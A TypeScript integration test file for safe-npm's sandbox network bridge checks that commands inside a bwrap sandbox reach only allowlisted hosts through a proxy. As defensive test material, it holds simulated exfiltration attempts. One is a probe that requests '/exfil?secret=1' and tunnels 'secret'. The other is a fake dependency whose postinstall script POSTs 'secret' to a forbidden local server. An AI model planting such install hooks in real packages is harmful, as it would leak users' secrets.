/**
 * The bridge inside a real bwrap sandbox with its own network namespace, the proxy on the host.
 * Inside, 127.0.0.1 is the sandbox's own loopback: the host's test servers are reachable only
 * through bridge → unix socket → proxy, and only those the allowlist names.
 */
import { type ChildProcess, spawn } from "node:child_process";
import { createHash } from "node:crypto";
import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readlinkSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import net from "node:net";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { execa } from "execa";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { parseAllowlist } from "../../../src/network/allowlist.js";
import {
  BRIDGE_PERL,
  BRIDGE_PERL_INSIDE,
  perlBridgeArgv,
} from "../../../src/network/bridgeperl.js";
import {
  BRIDGE_INSIDE,
  bridgeArgv,
  bridgeBinds,
  PROXY_ENV_NAMES,
  PROXY_URL_ENV_NAMES,
  SOCKET_INSIDE,
} from "../../../src/network/inside.js";
import { type NetworkProxy, startProxy } from "../../../src/network/proxy.js";
import { eventually, httpServer, sinkServer, type TestServer } from "../../unit/network/helpers.js";
import { repoRoot } from "../paths.js";

const unavailable = inject("sandboxUnavailable");
const bridgePath = join(repoRoot, "dist", "network", "bridge.cjs");
/** The node that runs inside (SAFE_NPM_TEST_NODE tries another version, e.g. 22 or 24). */
const node = process.env.SAFE_NPM_TEST_NODE ?? process.execPath;
/** The perl bridge's script, as safe-npm's data mount gives it inside. */
const perlDir = mkdtempSync(join(tmpdir(), "safe-npm-bridge-pl-"));
const perlPath = join(perlDir, "bridge.pl");
writeFileSync(perlPath, BRIDGE_PERL);

/** The two bridges safe-npm puts in front of a registry-mode command (policy.ts bridgeKind). */
interface Bridge {
  name: "node" | "perl";
  /** The argv inside, as the policy builds it. */
  argv: (command: string[]) => string[];
  /** Its script's bind from the host, at its inside path. */
  script: { src: string; dest: string };
  /** The argv to run it on the host, with the proxy's socket. */
  onHost: (socketPath: string, args: string[]) => string[];
}
const BRIDGES: Bridge[] = [
  {
    name: "node",
    argv: (command) => bridgeArgv(node, command),
    script: { src: bridgePath, dest: BRIDGE_INSIDE },
    onHost: (socketPath, args) => [node, bridgePath, socketPath, ...args],
  },
  {
    name: "perl",
    argv: (command) => perlBridgeArgv(SOCKET_INSIDE, command),
    script: { src: perlPath, dest: BRIDGE_PERL_INSIDE },
    onHost: (socketPath, args) => ["/usr/bin/perl", perlPath, socketPath, ...args],
  },
];

/**
 * What the sandboxed command tries. Plain node 20 ignores the proxy variables, so it proxies
 * explicitly, reading the address from HTTPS_PROXY as any tool would.
 */
const PROBE = String.raw`
const http = require("node:http");
const net = require("node:net");
const [allowedPort, forbiddenPort] = process.argv.slice(1).map(Number);
const proxy = new URL(process.env.HTTPS_PROXY);
const proxyAt = { host: proxy.hostname, port: Number(proxy.port) };

function get(url) {
  return new Promise((resolve) => {
    // An agent of its own: Node 24 with NODE_USE_ENV_PROXY would proxy the global agent's
    // requests to the proxy itself.
    const req = http.request({ ...proxyAt, path: url, agent: new http.Agent() }, (res) => {
      let body = "";
      res.on("data", (d) => (body += d));
      res.on("end", () => resolve({ status: res.statusCode, body }));
    });
    req.on("error", (e) => resolve({ error: e.code }));
    req.end();
  });
}
function direct(host, port) {
  return new Promise((resolve) => {
    const s = net.connect({ host, port });
    const timer = setTimeout(() => { s.destroy(); resolve("timeout"); }, 3000);
    s.on("connect", () => { clearTimeout(timer); s.destroy(); resolve("connected"); });
    s.on("error", (e) => { clearTimeout(timer); resolve(e.code); });
  });
}
function tunnel(target, payload) {
  return new Promise((resolve) => {
    const s = net.connect(proxyAt);
    let buf = "";
    let sent = false;
    s.on("connect", () => s.write("CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n\r\n"));
    s.on("data", (d) => {
      buf += d;
      if (!sent && payload && buf.startsWith("HTTP/1.1 200") && buf.includes("\r\n\r\n")) {
        sent = true;
        buf = "";
        s.write(payload);
      }
    });
    s.on("close", () => resolve(buf));
    s.on("error", (e) => resolve("error " + e.code));
  });
}
function envProxySupported() {
  const [major, minor] = process.versions.node.split(".").map(Number);
  return (major === 22 && minor >= 21) || (major === 24 && minor >= 5) || major >= 25;
}

(async () => {
  const results = {
    env: Object.fromEntries(
      ${JSON.stringify(PROXY_ENV_NAMES)}.map((k) => [k, process.env[k] ?? null])),
    proxied: await get("http://127.0.0.1:" + allowedPort + "/via-proxy"),
    proxiedForbidden: await get("http://127.0.0.1:" + forbiddenPort + "/exfil?secret=1"),
    tunnelled: await tunnel("127.0.0.1:" + allowedPort,
      "GET /tunnel HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
    tunnelForbidden: await tunnel("127.0.0.1:" + forbiddenPort, "secret"),
    tunnelByName: await tunnel("localhost:" + allowedPort, "secret"),
    directAllowed: await direct("127.0.0.1", allowedPort),
    directForbidden: await direct("127.0.0.1", forbiddenPort),
    directOutside: await direct("1.1.1.1", 80),
    envHttp: envProxySupported()
      ? await new Promise((resolve) => {
          http.get("http://127.0.0.1:" + allowedPort + "/env-http", (res) => {
            let body = "";
            res.on("data", (d) => (body += d));
            res.on("end", () => resolve(body));
          }).on("error", (e) => resolve("failed: " + e.code));
        })
      : "unsupported",
    envFetch: envProxySupported()
      ? await fetch("http://127.0.0.1:" + allowedPort + "/env-fetch").then((r) => r.text(),
          (e) => "failed: " + (e.cause?.code ?? e.message))
      : "unsupported",
  };
  process.stdout.write(JSON.stringify(results));
})();
`;

/** /bin, /lib, … as the host has them: symlinks into /usr, or read-only binds. */
function rootDirArgs(): string[] {
  const args: string[] = [];
  for (const dir of ["/bin", "/lib", "/lib64", "/sbin"]) {
    if (!existsSync(dir)) continue;
    if (lstatSync(dir).isSymbolicLink()) args.push("--symlink", readlinkSync(dir), dir);
    else args.push("--ro-bind", dir, dir);
  }
  return args;
}

function sandboxArgs(
  bridge: Bridge,
  proxy: NetworkProxy,
  command: string[],
  project: string | null = null,
): string[] {
  const nodePrefix = dirname(dirname(node));
  const binds = [bridge.script, ...bridgeBinds(proxy.socketPath, null)].flatMap((b) => [
    "--ro-bind",
    b.src,
    b.dest,
  ]);
  return [
    "--ro-bind",
    "/usr",
    "/usr",
    ...rootDirArgs(),
    "--proc",
    "/proc",
    "--dev",
    "/dev",
    "--tmpfs",
    "/tmp",
    // After /tmp's tmpfs, which would hide a node unpacked under /tmp.
    ...(nodePrefix.startsWith("/usr/") ? [] : ["--ro-bind", nodePrefix, nodePrefix]),
    "--unshare-net",
    "--unshare-user",
    "--unshare-pid",
    "--die-with-parent",
    "--clearenv",
    "--setenv",
    "PATH",
    `${dirname(node)}:/usr/bin:/bin`,
    "--setenv",
    "HOME",
    "/tmp/home",
    ...binds,
    ...(project === null ? [] : ["--bind", project, project, "--chdir", project]),
    "--",
    ...command,
  ];
}

function runBridge(
  bridge: Bridge,
  proxy: NetworkProxy,
  args: string[],
  options: { detached?: boolean } = {},
): ChildProcess & { output: () => { stdout: string; stderr: string } } {
  const [file, ...rest] = bridge.onHost(proxy.socketPath, args) as [string, ...string[]];
  const child = spawn(file, rest, { stdio: "pipe", detached: options.detached === true });
  let stdout = "";
  let stderr = "";
  child.stdout?.on("data", (d: Buffer) => {
    stdout += d;
  });
  child.stderr?.on("data", (d: Buffer) => {
    stderr += d;
  });
  return Object.assign(child, { output: () => ({ stdout, stderr }) });
}

function exited(child: ChildProcess): Promise<{ code: number | null; signal: string | null }> {
  return new Promise((resolve) => {
    if (child.exitCode !== null || child.signalCode !== null)
      resolve({ code: child.exitCode, signal: child.signalCode });
    else child.once("exit", (code, signal) => resolve({ code, signal }));
  });
}

afterAll(() => rmSync(perlDir, { recursive: true, force: true }));

describe.skipIf(unavailable !== "").each(BRIDGES)(
  "the $name network bridge in a sandbox",
  (bridge) => {
    let allowed: TestServer;
    let forbidden: TestServer & { received: () => string };
    let proxy: NetworkProxy;

    beforeAll(async () => {
      allowed = await httpServer((req, res) => res.end(`hello from host ${req.method} ${req.url}`));
      forbidden = await sinkServer();
      proxy = await startProxy({ allow: parseAllowlist([`127.0.0.1:${allowed.port}`]) });
    });
    afterAll(async () => {
      await proxy?.close();
      await allowed?.close();
      await forbidden?.close();
    });

    it("reaches the allowed host only through the proxy; everything else fails", async () => {
      const command = bridge.argv([
        node,
        "-e",
        PROBE,
        String(allowed.port),
        String(forbidden.port),
      ]);
      expect(command).toContain(bridge.script.dest);
      const r = await execa("bwrap", sandboxArgs(bridge, proxy, command), { reject: false });
      expect(r.stderr).toBe("");
      expect(r.exitCode).toBe(0);
      const results = JSON.parse(r.stdout);

      const url = results.env.HTTPS_PROXY as string;
      expect(url).toMatch(/^http:\/\/127\.0\.0\.1:\d+$/);
      expect(url).not.toBe("http://127.0.0.1:0");
      // Every variable of the list, from either bridge: the node bridge spells them out itself.
      for (const name of PROXY_URL_ENV_NAMES) expect(results.env[name], name).toBe(url);
      expect(results.env.NODE_USE_ENV_PROXY).toBe("1");
      expect(results.env.NO_PROXY).toBe("");
      expect(results.env.no_proxy).toBe("");

      expect(results.proxied).toEqual({ status: 200, body: "hello from host GET /via-proxy" });
      expect(results.tunnelled).toContain("hello from host GET /tunnel");
      expect(results.proxiedForbidden.status).toBe(403);
      expect(results.tunnelForbidden).toMatch(/^HTTP\/1\.1 403 /);
      // The allowlist names 127.0.0.1, not localhost (which could resolve anywhere).
      expect(results.tunnelByName).toMatch(/^HTTP\/1\.1 403 /);
      // Inside, 127.0.0.1 is the sandbox's own loopback: the host's servers are not there.
      expect(results.directAllowed).toBe("ECONNREFUSED");
      expect(results.directForbidden).toBe("ECONNREFUSED");
      expect(results.directOutside).toBe("ENETUNREACH");
      // Node 22.21+/24.5+ honour NODE_USE_ENV_PROXY: plain fetch and http.get go through the proxy.
      const envProxy = results.envFetch !== "unsupported";
      if (envProxy) {
        expect(results.envFetch).toBe("hello from host GET /env-fetch");
        expect(results.envHttp).toBe("hello from host GET /env-http");
      }

      expect(forbidden.accepted()).toBe(0);
      expect(forbidden.received()).toBe("");
      const stats = proxy.stats();
      expect(stats.hosts.find((h) => h.target === `127.0.0.1:${forbidden.port}`)?.refused).toBe(2);
      expect(stats.hosts.find((h) => h.target === `localhost:${allowed.port}`)?.refused).toBe(1);
      expect(stats.hosts.find((h) => h.target === `127.0.0.1:${allowed.port}`)?.connections).toBe(
        envProxy ? 4 : 2,
      );
      await eventually(() => proxy.stats().openSockets === 0, "no open proxy sockets");
    });

    it("exits with the command's status, 128+N for its death by signal, 127 when not found", async () => {
      const run = (command: string[]) =>
        execa("bwrap", sandboxArgs(bridge, proxy, bridge.argv(command)), { reject: false });
      expect((await run(["sh", "-c", "exit 7"])).exitCode).toBe(7);
      expect((await run(["sh", "-c", "kill -TERM $$"])).exitCode).toBe(143);
      const missing = await run(["no-such-command"]);
      expect(missing.exitCode).toBe(127);
      expect(missing.stderr).toContain("no-such-command");
    });

    it("dies of the same signal as its command, so the parent sees death by signal", async () => {
      for (const signal of ["SIGTERM", "SIGINT", "SIGHUP", "SIGKILL"] as const) {
        const run = runBridge(bridge, proxy, [
          "0",
          "--",
          "sh",
          "-c",
          `kill -${signal.slice(3)} $$`,
        ]);
        expect(await exited(run)).toEqual({ code: null, signal });
      }
    });

    if (bridge.name === "node")
      it("forwards SIGTERM/SIGINT to the command, and survives them itself", async () => {
        const child =
          "for (const s of ['SIGTERM','SIGINT']) process.on(s, () => { console.log('child got ' + s); process.exit(3); });" +
          "console.log('ready'); setTimeout(() => { console.log('no signal'); process.exit(0); }, 2000);";
        for (const signal of ["SIGTERM", "SIGINT"] as const) {
          const run = runBridge(bridge, proxy, ["0", "--", node, "-e", child]);
          await eventually(() => run.output().stdout.includes("ready"), "child ready");
          run.kill(signal);
          expect(await exited(run)).toEqual({ code: 3, signal: null });
          expect(run.output().stdout).toContain(`child got ${signal}`);
        }
      });

    if (bridge.name === "node")
      it("with --no-forward-signals, leaves signals to whoever sends them to the command", async () => {
        const child =
          "process.on('SIGTERM', () => { console.log('child got SIGTERM'); process.exit(3); });" +
          "console.log('ready'); setTimeout(() => { console.log('no signal'); process.exit(0); }, 1000);";
        const run = runBridge(bridge, proxy, [
          "0",
          "--no-forward-signals",
          "--",
          node,
          "-e",
          child,
        ]);
        await eventually(() => run.output().stdout.includes("ready"), "child ready");
        run.kill("SIGTERM");
        expect(await exited(run)).toEqual({ code: 0, signal: null });
        expect(run.output().stdout).toContain("no signal");
        expect(run.output().stdout).not.toContain("child got");
      });

    if (bridge.name === "perl")
      it("becomes the command, whose signals are its own; the relay survives a signal to the group", async () => {
        // On SIGTERM (sent to the whole process group, as a terminal or safe-npm does), the
        // command still fetches through the relay, then exits 3.
        const child = `const http = require("node:http");
const p = new URL(process.env.HTTP_PROXY);
process.on("SIGTERM", () => {
  http.get({ host: p.hostname, port: p.port, path: "http://127.0.0.1:${allowed.port}/after",
    agent: new http.Agent() }, (r) => { console.log("after: " + r.statusCode); process.exit(3); })
    .on("error", (e) => { console.log("after: " + e.code); process.exit(4); });
});
console.log("pid " + process.pid);
setTimeout(() => process.exit(0), 60000);`;
        const run = runBridge(bridge, proxy, ["0", "--", node, "-e", child], { detached: true });
        await eventually(() => run.output().stdout.includes("pid "), "command ready", 30_000);
        // exec: the command runs in the bridge's own process.
        expect(run.output().stdout).toContain(`pid ${run.pid}\n`);
        process.kill(-(run.pid as number), "SIGTERM");
        expect(await exited(run)).toEqual({ code: 3, signal: null });
        expect(run.output().stdout).toContain("after: 200");
      });

    if (bridge.name === "perl")
      it("leaves no relay listening once the command is gone", async () => {
        const run = runBridge(bridge, proxy, ["0", "--", "sh", "-c", "echo $HTTPS_PROXY"]);
        expect(await exited(run)).toEqual({ code: 0, signal: null });
        const port = Number(new URL(run.output().stdout.trim()).port);
        expect(port).toBeGreaterThan(0);
        // Outside a pid namespace (which ends it at once) the relay sees its command gone.
        const refused = (): Promise<boolean> =>
          new Promise((resolve) => {
            const socket = net.connect(port, "127.0.0.1");
            socket.once("connect", () => {
              socket.destroy();
              resolve(false);
            });
            socket.once("error", () => resolve(true));
          });
        for (let i = 0; !(await refused()); i++) {
          if (i === 300) throw new Error("the relay still listens 30 s after its command ended");
          await new Promise((r) => setTimeout(r, 100));
        }
      });

    it("carries both directions at once: an upload while the host sends", async () => {
      // The host sends 32 MiB as soon as a client connects and reads everything; the client
      // uploads 32 MiB before it reads (more than loopback buffers hold). A relay that stops reading one side while its write to
      // the other waits would hang here.
      const size = 32 * 1024 * 1024;
      const server = net.createServer((socket) => {
        socket.on("data", () => {});
        socket.on("error", () => {});
        socket.end(Buffer.alloc(size, 1));
      });
      await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
      const port = (server.address() as net.AddressInfo).port;
      const local = await startProxy({ allow: parseAllowlist([`127.0.0.1:${port}`]) });
      const client = `const net = require("node:net");
const p = new URL(process.env.HTTPS_PROXY);
const s = net.connect(Number(p.port), p.hostname, () => s.write("CONNECT 127.0.0.1:${port} HTTP/1.1\\r\\n\\r\\n"));
let head = ""; let got = 0; let open = false;
s.on("data", (d) => {
  if (!open) {
    head += d.toString("latin1");
    const end = head.indexOf("\\r\\n\\r\\n");
    if (end < 0) return;
    open = true;
    got += Buffer.byteLength(head.slice(end + 4), "latin1");
    // Reads nothing more until its upload is out, as a blocking client would.
    s.pause();
    s.end(Buffer.alloc(${size}, 2), () => s.resume());
  } else got += d.length;
});
s.on("close", () => { console.log("received " + got); });`;
      try {
        const r = await execa(
          "bwrap",
          sandboxArgs(bridge, local, bridge.argv([node, "-e", client])),
          { reject: false, timeout: 60_000 },
        );
        expect(r.stderr).toBe("");
        expect(r.stdout).toBe(`received ${size}`);
      } finally {
        await local.close();
        await new Promise((r) => server.close(r));
      }
    });

    /**
     * `count` requests at once, each on a connection of its own, to a host server that answers
     * each after 200 ms (so they overlap), optionally under `ulimit -n`; what came back.
     */
    const manyAtOnce = async (count: number, fileLimit: number | null): Promise<string> => {
      const slow = await httpServer((req, res) => {
        setTimeout(() => res.end(`answer ${req.url}`), 200);
      });
      const local = await startProxy({ allow: parseAllowlist([`127.0.0.1:${slow.port}`]) });
      const client = `const http = require("node:http");
const p = new URL(process.env.HTTPS_PROXY);
let ok = 0; let left = ${count}; const failed = [];
for (let i = 0; i < ${count}; i++) {
  http.request({ host: p.hostname, port: Number(p.port), path: "http://127.0.0.1:${slow.port}/n" + i, agent: new http.Agent() }, (res) => {
    let body = "";
    res.on("data", (d) => (body += d));
    res.on("end", () => { if (body === "answer /n" + i) ok++; else failed.push(i + ": " + body); if (--left === 0) done(); });
  }).on("error", (e) => { failed.push(i + ": " + e.code); if (--left === 0) done(); }).end();
}
function done() { console.log(JSON.stringify({ ok, failed })); }`;
      const command = bridge.argv([node, "-e", client]);
      const limited =
        fileLimit === null
          ? command
          : ["/bin/sh", "-c", `ulimit -n ${fileLimit} && exec "$@"`, "sh", ...command];
      try {
        const r = await execa("bwrap", sandboxArgs(bridge, local, limited), {
          reject: false,
          timeout: 60_000,
        });
        expect(r.stderr).toBe("");
        return r.stdout;
      } finally {
        await local.close();
        await slow.close();
      }
    };

    it("carries many connections at once", async () => {
      expect(JSON.parse(await manyAtOnce(300, null))).toEqual({ ok: 300, failed: [] });
    });

    // The perl relay is one process for every connection: beyond its descriptors, the others
    // wait their turn instead of being accepted and dropped. (60 connections need ~125
    // descriptors in the relay; the command's node needs ~80 of the 96. Two limits, so that one
    // runs out between accepting a connection and opening its way to the proxy.)
    it.runIf(bridge.name === "perl")(
      "out of descriptors, leaves connections waiting and drops none",
      async () => {
        for (const limit of [96, 97])
          expect(JSON.parse(await manyAtOnce(60, limit)), `ulimit -n ${limit}`).toEqual({
            ok: 60,
            failed: [],
          });
      },
    );

    it("prints nothing of its own where the locale is one the system lacks", async () => {
      const args = sandboxArgs(
        bridge,
        proxy,
        bridge.argv(["sh", "-c", 'echo "badlang=$(printenv PERL_BADLANG || echo unset)"']),
      );
      const at = args.indexOf("--clearenv") + 1;
      args.splice(at, 0, "--setenv", "LANG", "xx_XX.UTF-8", "--setenv", "LC_ALL", "xx_XX.UTF-8");
      const r = await execa("bwrap", args, { reject: false });
      expect(r.exitCode).toBe(0);
      expect(r.stderr).toBe("");
      // The command's environment is as it was.
      expect(r.stdout).toBe("badlang=unset");
    });

    it("fails with 125 and a reason when it cannot start", async () => {
      const [file, ...args] = bridge.onHost("/nonexistent/proxy.sock", ["0", "--", "true"]) as [
        string,
        ...string[],
      ];
      const noSocket = spawn(file, args);
      let stderr = "";
      noSocket.stderr?.on("data", (d: Buffer) => {
        stderr += d;
      });
      expect(await exited(noSocket)).toEqual({ code: 125, signal: null });
      expect(stderr).toContain("no proxy socket");
      const badArgs = runBridge(bridge, proxy, ["0", "true"]);
      expect(await exited(badArgs)).toEqual({ code: 125, signal: null });
      expect(badArgs.output().stderr).toContain("usage");
    });

    it("npm installs from an allowed plain-http registry; the dependency's script cannot leak", async () => {
      const dir = mkdtempSync(join(tmpdir(), "safe-npm-bridge-npm-"));
      try {
        // A dependency whose postinstall tries the forbidden server through the proxy and directly.
        const pkg = join(dir, "pkg");
        mkdirSync(pkg);
        const leak = [
          "const http = require('node:http'); const net = require('node:net'); const fs = require('node:fs');",
          "const p = new URL(process.env.HTTP_PROXY); const out = {};",
          `const target = 'http://127.0.0.1:${forbidden.port}/exfil';`,
          "http.request({ host: p.hostname, port: p.port, path: target, method: 'POST', agent: new http.Agent() }, (r) => {",
          "  out.proxied = r.statusCode; r.resume();",
          `  net.connect(${forbidden.port}, '127.0.0.1').on('error', (e) => { out.direct = e.code;`,
          "    fs.writeFileSync(process.env.INIT_CWD + '/leak.json', JSON.stringify(out)); });",
          "}).on('error', (e) => { out.proxied = e.code; }).end('secret');",
        ].join("\n");
        writeFileSync(join(pkg, "leak.js"), leak);
        writeFileSync(
          join(pkg, "package.json"),
          JSON.stringify({
            name: "tiny-dep",
            version: "1.0.0",
            scripts: { postinstall: "node leak.js" },
          }),
        );
        await execa("npm", ["pack", "--silent", "--pack-destination", dir, pkg]);
        const tgz = readFileSync(join(dir, "tiny-dep-1.0.0.tgz"));

        const registry = await httpServer((req, res) => {
          if (req.url === "/tiny-dep") {
            const tarball = `http://127.0.0.1:${registry.port}/tiny-dep/-/tiny-dep-1.0.0.tgz`;
            const integrity = `sha512-${createHash("sha512").update(tgz).digest("base64")}`;
            const version = { name: "tiny-dep", version: "1.0.0", dist: { tarball, integrity } };
            res.setHeader("content-type", "application/json");
            res.end(
              JSON.stringify({
                name: "tiny-dep",
                "dist-tags": { latest: "1.0.0" },
                versions: { "1.0.0": { ...version, scripts: { postinstall: "node leak.js" } } },
              }),
            );
          } else if (req.url === "/tiny-dep/-/tiny-dep-1.0.0.tgz") {
            res.end(tgz);
          } else {
            res.statusCode = 404;
            res.end("{}");
          }
        });
        const local = await startProxy({ allow: parseAllowlist([`127.0.0.1:${registry.port}`]) });
        try {
          const project = join(dir, "project");
          mkdirSync(project);
          writeFileSync(
            join(project, "package.json"),
            // allowScripts: npm 12 runs a dependency's install script only when approved.
            JSON.stringify({
              name: "app",
              version: "1.0.0",
              dependencies: { "tiny-dep": "1.0.0" },
              allowScripts: { "tiny-dep": true },
            }),
          );
          writeFileSync(
            join(project, ".npmrc"),
            `registry=http://127.0.0.1:${registry.port}/\naudit=false\nfund=false\nupdate-notifier=false\n`,
          );
          const r = await execa(
            "bwrap",
            sandboxArgs(bridge, local, bridge.argv(["npm", "install"]), project),
            { reject: false },
          );
          expect(r.exitCode, r.stderr).toBe(0);
          expect(existsSync(join(project, "node_modules", "tiny-dep", "package.json"))).toBe(true);
          expect(registry.requests.map((q) => q.url)).toEqual([
            "/tiny-dep",
            "/tiny-dep/-/tiny-dep-1.0.0.tgz",
          ]);
          expect(JSON.parse(readFileSync(join(project, "leak.json"), "utf8"))).toEqual({
            proxied: 403,
            direct: "ECONNREFUSED",
          });
          expect(forbidden.accepted()).toBe(0);
          const stats = local.stats();
          expect(stats.hosts.find((h) => h.target === `127.0.0.1:${forbidden.port}`)?.refused).toBe(
            1,
          );
        } finally {
          await local.close();
          await registry.close();
        }
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    });
  },
);
